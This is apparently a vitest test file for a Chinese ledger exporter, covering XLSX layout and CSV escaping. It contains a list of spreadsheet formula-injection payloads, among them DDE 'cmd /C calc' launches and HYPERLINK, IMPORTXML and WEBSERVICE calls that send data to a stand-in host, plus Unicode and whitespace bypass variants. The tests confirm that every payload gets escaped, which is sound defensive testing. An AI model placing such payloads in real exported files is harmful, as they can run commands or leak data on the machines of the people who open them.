import { readXlsx } from 'hucre/xlsx'
import { describe, expect, it } from 'vitest'
import type { IsoDate } from '@shared/domain/day'
import type { Decimal } from '@shared/domain/decimal'
import { guarded, isFormulaLike, unguarded } from '@shared/exchange/csv-cell'
import type { LedgerSheet } from '@shared/reports/sheet-model'
import { readCsv } from './read-csv'
import { readWorkbook } from './read-workbook'
import { writeCsv } from './write-csv'
import { writeLedgerXlsx } from './write-ledger-xlsx'

const sheet: LedgerSheet = {
  name: '台账',
  title: '2026年度重点工作台账',
  issuerLine: '填报单位：县政府督查室　　　　日期：2026年11月24日',
  columns: [
    { title: '记录号', width: 0, align: 'left', isFrozen: true },
    { title: '亮灯', width: 12, align: 'center', isFrozen: true },
    { title: '事项', width: 20, align: 'left', isFrozen: true },
    { title: '目标值', width: 12, align: 'right', isFrozen: false },
    { title: '完成率', width: 12, align: 'right', isFrozen: false },
    { title: '完成时限', width: 16, align: 'center', isFrozen: false },
  ],
  titleColumn: 2,
  rows: [
    {
      depth: 1,
      hasChildren: false,
      cells: [
        { kind: 'text', text: 'T1' },
        { kind: 'light', light: 'red', text: '■ 逾期' },
        { kind: 'text', text: '=HYPERLINK("http://x","<b>很长的事项</b>")很长的事项很长的事项很长的事项' },
        { kind: 'figure', value: '57.050' as Decimal },
        { kind: 'percent', value: '64.21' as Decimal },
        { kind: 'date', on: '2026-10-31' as IsoDate },
      ],
    },
  ],
  meta: { schema: 'duban-ledger-1', exportedOn: '2026-11-24' },
}

describe('the exported workbook', () => {
  it('carries comments as the office program’s own, and is read again beside them', async () => {
    const comments = [{ column: 2, text: '=已与县交通局核对', by: '李四' }]
    const bytes = await writeLedgerXlsx({ ...sheet, rows: sheet.rows.map((row) => ({ ...row, comments })) })
    const workbook = await readXlsx(bytes, { readStyles: true })
    expect(workbook.sheets[0]?.cells?.get('3,2')?.comment).toMatchObject({ author: '李四', text: '=已与县交通局核对' })
    const read = await readWorkbook('台账.xlsx', bytes)
    expect(read.ok && read.value.sheets[0]?.rows[3]?.[2]).toContain('很长的事项')
  })
  it('is ready to hand in: merged title, A3 landscape, repeated header, frozen panes, filter, page numbers', async () => {
    const workbook = await readXlsx(await writeLedgerXlsx(sheet), { readStyles: true })
    const [ledger, meta] = workbook.sheets
    expect(ledger?.rows[0]?.[1]).toBe('2026年度重点工作台账')
    expect(ledger?.merges).toContainEqual({ startRow: 0, startCol: 1, endRow: 0, endCol: 5 })
    expect(ledger?.pageSetup).toMatchObject({
      paperSize: 'a3',
      orientation: 'landscape',
      fitToPage: true,
      fitToWidth: 1,
      fitToHeight: 0,
      printTitlesRow: '$3:$3',
    })
    expect(ledger?.freezePane).toEqual({ rows: 3, columns: 3 })
    expect(ledger?.autoFilter?.range).toBe('A3:F4')
    expect(ledger?.headerFooter?.oddFooter).toContain('&P')
    expect(ledger?.columns?.[0]?.hidden).toBe(true)
    expect(meta).toMatchObject({ name: '_meta', veryHidden: true })
    expect(workbook.properties?.custom).toEqual({ duban: 'duban-ledger-1' })
  })

  it('shows formulas and markup as text, lights as colour and word, figures with their decimals', async () => {
    const workbook = await readXlsx(await writeLedgerXlsx(sheet), { readStyles: true })
    const cells = workbook.sheets[0]?.cells
    expect(cells?.get('3,2')).toMatchObject({
      type: 'string',
      style: { numFmt: '@', alignment: { wrapText: true, indent: 1 } },
    })
    expect(cells?.get('3,2')?.formula).toBeUndefined()
    expect(cells?.get('3,1')).toMatchObject({ value: '■ 逾期', style: { fill: { fgColor: { rgb: 'C00000' } } } })
    expect(cells?.get('3,3')).toMatchObject({ value: 57.05, style: { numFmt: '0.000' } })
    expect(cells?.get('3,4')).toMatchObject({ value: 0.6421, style: { numFmt: '0.00%' } })
    expect(cells?.get('3,5')).toMatchObject({ value: new Date('2026-10-31T00:00:00Z') })
    expect(workbook.sheets[0]?.rowDefs?.get(3)?.height).toBeGreaterThan(60)
  })

  it('is the same file for the same ledger', async () => {
    expect(await writeLedgerXlsx(sheet)).toEqual(await writeLedgerXlsx(sheet))
  })
})

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://x?"&A1,"点我")',
  '=IMPORTXML("http://x","//a")',
  '=WEBSERVICE("http://x")',
  '=DDE("cmd";"/C calc";"x")',
  '|calc',
  "%0A-3+3+cmd|' /C calc'!D2",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '　=1+1',
  '"=1+1',
  "'=1+1",
  '“=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u00ad=1+1',
  '\u202e=1+1',
  '﹦1+1',
  '``=1+1',
  '=\u0000cmd',
  '@@x',
  '--1',
]

describe('the exported CSV', () => {
  it('lets none of the known payloads stand as a formula', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(26)
    expect(PAYLOADS.filter((payload) => !isFormulaLike(payload))).toEqual([])
    expect(PAYLOADS.filter((payload) => !guarded(payload).startsWith("'"))).toEqual([])
    expect(PAYLOADS.map((payload) => unguarded(guarded(payload)))).toEqual(PAYLOADS)
  })

  it('leaves plain numbers and ordinary text alone, and reads back exactly what was written', () => {
    const ordinary = ['-12.5', '+3', '64.21%', '县财政局', "'引号开头", '', 'a,b', '多\n行', '"引"', ' 空 格 ', '1;2']
    for (const text of ordinary) expect(guarded(text)).toBe(text)
    const rows = [ordinary, PAYLOADS.filter((payload) => !/[\0\r]/.test(payload))]
    const text = new TextDecoder('utf-8', { ignoreBOM: false }).decode(writeCsv(rows))
    const read = readCsv(text)
    expect(read.ok && read.value).toEqual(rows)
  })

  it('opens as UTF-8 in a spreadsheet', async () => {
    const bytes = writeCsv([
      ['事项', '牵头单位'],
      ['修路', '县交通运输局'],
    ])
    expect(bytes.slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]))
    const read = await readWorkbook('a.csv', bytes)
    expect(read.ok && read.value.encoding).toBe('utf-8')
  })
})
